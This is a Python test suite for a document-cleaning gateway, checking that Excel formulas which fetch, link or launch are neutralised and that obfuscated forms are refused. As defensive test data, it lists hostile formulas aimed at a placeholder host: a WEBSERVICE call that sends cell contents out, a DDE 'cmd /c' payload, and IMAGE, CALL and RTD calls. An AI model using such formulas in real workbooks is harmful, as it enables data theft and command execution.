"""A workbook's formulas: what would fetch, start or lead elsewhere shows what it showed, and does nothing."""

from __future__ import annotations

import io
import time
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from gateway.files.cleaning import office_formulas, office_xml
from gateway.files.cleaning.report import FieldClass, Found, Unclean
from gateway.files.kinds import XLSX
from tests.gateway.files.cleaning import papers
from tests.gateway.files.cleaning.copies import cleaned

HOST = "evil.example"
SHEET = "xl/worksheets/sheet1.xml"
HOSTILE = (
    f'WEBSERVICE("https://{HOST}/?"&A1)',
    f'_xlfn.WEBSERVICE ("https://{HOST}/")',
    f'_xlfn.IMAGE("https://{HOST}/a.png")',
    f'HYPERLINK("https://{HOST}/?"&A1,"点此")',
    f'IF(1,hyperlink("file://{HOST}/x"),0)',
    f"cmd|'/c calc {HOST}'!A0",
    f'IMPORTXML("https://{HOST}/","//a")',
    f'RTD("x","{HOST}","y")',
    f'CALL("{HOST}","a","b")',
)


def book(formula: str, shown: str | int) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as made:
        sheet = made.add_worksheet()
        sheet.write_string(0, 0, "密")
        sheet.write_formula(0, 1, "=" + formula, None, shown)
        sheet.write_formula(1, 1, "=SUM(1,2)", None, 3)
    return out.getvalue()


def kept(tmp_path: Path, given: bytes) -> tuple[list[object], list[object]]:
    """Formulas and what they show, of the copy."""
    copy = cleaned(tmp_path, given, XLSX)[1]
    assert HOST.encode() not in papers.everything(copy)
    read = [openpyxl.load_workbook(io.BytesIO(copy), data_only=values).worksheets[0] for values in (False, True)]
    formulas, values = ([sheet.cell(row, 2).value for row in (1, 2)] for sheet in read)
    return formulas, values


@pytest.mark.parametrize("formula", HOSTILE)
def test_a_formula_that_asks_elsewhere_shows_what_it_showed(tmp_path: Path, formula: str) -> None:
    assert kept(tmp_path, book(formula, '说"好"<1')) == (['="说""好""<1"', "=SUM(1,2)"], ['说"好"<1', 3])
    assert kept(tmp_path, book(formula, 12)) == (["=12", "=SUM(1,2)"], [12, 3])


@pytest.mark.parametrize("formula", ["SUM(A1:A3)", 'A1&"WEBSERVICE"', "IMAGES!A1", "'WEBSERVICE'!A1", "RTDX(1)"])
def test_other_formulas_are_kept(tmp_path: Path, formula: str) -> None:
    assert kept(tmp_path, book(formula, 5)) == ([f"={formula}", "=SUM(1,2)"], [5, 3])


@pytest.mark.parametrize(
    "cell",
    [
        "<f>WEB&#83;ERVICE(&quot;x&quot;)</f>",
        '<f t="shared" ref="A1:A2" si="0">WEBSERVICE(1)</f>',
        "<f a='/>'>WEBSERVICE(1)</f>",
        '<x:f ca="1">WEBSERVICE(1)</x:f >',
        "<formula1>WEBSERVICE(1)</formula1>",
        "<x14:formula1><xm:f>WEBSERVICE(1)</xm:f></x14:formula1>",
    ],
)
def test_however_it_is_written(cell: str) -> None:
    found = Found()
    assert b"ERVICE" not in office_xml.sheet(f"<c>{cell}<v>1</v></c>".encode(), found)
    assert found == {FieldClass.OTHER: 1}


@pytest.mark.parametrize("inner", ["WEB<!-- -->SERVICE(1)", "<![CDATA[WEBSERVICE(1)]]>", "WEB<?x?>SERVICE(1)"])
@pytest.mark.parametrize("name", ["f", "formula"])
def test_what_hides_a_formula_is_refused(name: str, inner: str) -> None:
    with pytest.raises(Unclean):
        office_xml.sheet(f"<c><{name}>{inner}</{name}></c>".encode(), Found())


def test_names_and_columns_of_tables_ask_nobody(tmp_path: Path) -> None:
    def named(xml: bytes) -> bytes:
        told = f'<definedNames><definedName name="x">WEBSERVICE("https://{HOST}")</definedName></definedNames>'
        return xml.replace(b"</sheets>", b"</sheets>" + told.encode())

    given = papers.rewritten(book("A1", 1), {"xl/workbook.xml": named})
    assert kept(tmp_path, given)[0] == ["=A1", "=SUM(1,2)"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'PartName="/xl/worksheets/sheet1.xml"', b'PartName="/xl/pivotCache/pivotCacheRecords1.xml"'),
        (b'Extension="xml" ContentType="application/xml"',
         b'Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"'),
    ],
)  # fmt: skip
def test_a_sheet_that_calls_itself_what_is_not_read_is_refused(tmp_path: Path, old: bytes, new: bytes) -> None:
    given = papers.rewritten(book("A1", 1), {"[Content_Types].xml": lambda xml: xml.replace(old, new)})
    with pytest.raises(Unclean):
        cleaned(tmp_path, given, XLSX)


def test_formulas_without_an_end_take_no_longer_than_others() -> None:
    began = time.monotonic()
    with pytest.raises(Unclean):
        office_formulas.sheet(b"<f>" * 1_000_000, Found())
    plain = b"<c><f>SUM(1)</f><v>1</v></c>" * 200_000 + b"<formula>" * 200_000
    assert office_formulas.sheet(plain, Found()) == plain
    assert time.monotonic() - began < 20
